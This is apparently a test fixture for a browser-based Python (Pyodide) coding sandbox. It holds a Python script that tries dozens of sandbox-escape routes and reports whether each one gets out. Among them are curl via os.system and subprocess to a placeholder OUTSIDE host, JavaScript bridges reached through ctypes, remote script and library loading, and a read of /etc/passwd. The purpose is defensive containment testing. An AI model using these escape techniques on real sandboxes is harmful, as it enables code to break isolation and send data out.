import type { Files } from '../../src/kata/files.ts';

/**
 * Every way out that a program in Python might try. Each prints a line: its name, a tab and what it
 * came to, `OUT ...` when it got out. What may end the interpreter is tried in a process of its own.
 * `OUTSIDE` stands for the host and port of a server that counts what reaches it, and `INSIDE` for
 * the app's. There is no module `js` as in Pyodide: what reaches JavaScript does it through ctypes,
 * which can call every function of the WebAssembly, and PyInit__pyodide_core, which would give it.
 */
export const waysOutPython: Files = {
  'cyber-dojo.sh': `python3 out.py
for number in {0..9}; do
  python3 out.py "$number"
done
true
`,
  'out.py': String.raw`
import ctypes, os, sys

def run_script(code):
    run = ctypes.pythonapi.emscripten_run_script_string
    run.restype = ctypes.c_char_p
    return run(code.encode())

def bridge():
    start = ctypes.pythonapi.PyInit__pyodide_core
    start.restype = ctypes.py_object
    return start()

def through_js(code):
    def way():
        import js
        return eval(code, {'js': js})
    return way

def through_pyodide():
    from pyodide.http import open_url
    return open_url('http://OUTSIDE/pyodide').read()

def through_code():
    from pyodide.code import run_js
    return run_js("fetch('http://OUTSIDE/run_js')")

def urlopen():
    import urllib.request
    return urllib.request.urlopen('http://OUTSIDE/urllib', timeout=1).read()

def http_client():
    import http.client
    connection = http.client.HTTPConnection('OUTSIDE', timeout=1)
    connection.request('GET', '/http')
    return connection.getresponse().read()

def tcp():
    import socket
    host, port = 'OUTSIDE'.split(':')
    with socket.create_connection((host, int(port)), timeout=1) as connection:
        connection.sendall(b'GET /socket HTTP/1.0\r\n\r\n')
        return connection.recv(100)

def udp():
    import socket
    host, port = 'OUTSIDE'.split(':')
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'hello', (host, int(port)))

def asyncio_connection():
    import asyncio
    async def connect():
        host, port = 'OUTSIDE'.split(':')
        reader, writer = await asyncio.open_connection(host, int(port))
        writer.write(b'GET /asyncio HTTP/1.0\r\n\r\n')
        return await reader.read(100)
    return asyncio.run(asyncio.wait_for(connect(), 1))

def browser():
    import webbrowser
    if not webbrowser.open('http://OUTSIDE/browser'):
        raise RuntimeError('no browser')

def process(command):
    def way():
        import subprocess
        return subprocess.run(command, capture_output=True, check=True).stdout
    return way

def shell():
    if os.system('curl http://OUTSIDE/system') != 0:
        raise RuntimeError('no shell')

def library(path):
    def way():
        return ctypes.CDLL(path)
    return way

def read(path):
    def way():
        with open(path) as file:
            return file.read()
    return way

ways = {
    'urllib': urlopen,
    'http.client': http_client,
    'socket': tcp,
    'datagram': udp,
    'asyncio': asyncio_connection,
    'webbrowser': browser,
    'subprocess': process(['curl', 'http://OUTSIDE/subprocess']),
    'os.system': shell,
    'fork': os.fork,
    'js.fetch': through_js("js.fetch('http://OUTSIDE/fetch')"),
    'js.XMLHttpRequest': through_js('js.XMLHttpRequest.new()'),
    'js.WebSocket': through_js("js.WebSocket.new('ws://OUTSIDE/js-socket')"),
    'js.EventSource': through_js("js.EventSource.new('http://OUTSIDE/source')"),
    'js.importScripts': through_js("js.importScripts('http://OUTSIDE/script.js')"),
    'js.Worker': through_js("js.Worker.new('http://OUTSIDE/worker.js')"),
    'js.indexedDB': through_js("js.indexedDB.open('my-katas')"),
    'js.caches': through_js('js.caches.keys()'),
    'js.navigator.storage': through_js('js.navigator.storage.getDirectory()'),
    'js.BroadcastChannel': through_js("js.BroadcastChannel.new('katas').postMessage('hello')"),
    'js.document': through_js('js.document'),
    'pyodide.http': through_pyodide,
    'pyodide.code': through_code,
    'a library from elsewhere': library('http://OUTSIDE/library.so'),
    'a file from elsewhere': read('http://OUTSIDE/file'),
    'a file of the app': read('http://INSIDE/some/folder/index.html'),
    'a file of the machine': read('/etc/passwd'),
}

ends = {
    'emscripten_run_script': lambda: run_script("fetch('http://OUTSIDE/eval'); 'OUT'"),
    'emscripten_run_script of a script': lambda: run_script("importScripts('http://OUTSIDE/eval.js')"),
    'emscripten_run_script of a socket': lambda: run_script("new WebSocket('ws://OUTSIDE/eval-socket')"),
    'the bridge to JavaScript': bridge,
    'the bridge as modules': lambda: [bridge(), sys.modules['_pyodide_core'].js],
    'jslib_init': lambda: ctypes.pythonapi.jslib_init(),
    'init_pyodide_proxy': lambda: ctypes.pythonapi.init_pyodide_proxy(),
    'dlopen': lambda: ctypes.pythonapi.dlopen(b'http://OUTSIDE/dlopen.so', 2),
    'emscripten_fetch': lambda: ctypes.pythonapi.emscripten_async_wget(b'http://OUTSIDE/wget', b'/tmp/x', 0, 0),
    'system': lambda: ctypes.pythonapi.system(b'curl http://OUTSIDE/c-system'),
}

tried = ways
if len(sys.argv) > 1:
    print()
    tried = dict([list(ends.items())[int(sys.argv[1])]])
for name, way in tried.items():
    print(name, end='\t', flush=True)
    try:
        # What C answers says little: the server that counts says the rest.
        told = ('OUT ' if tried is ways else 'gave ') + repr(way())
    except BaseException as error:
        told = type(error).__name__ + ': ' + str(error)
    print(told[:200].replace('\n', ' '), flush=True)
`,
};
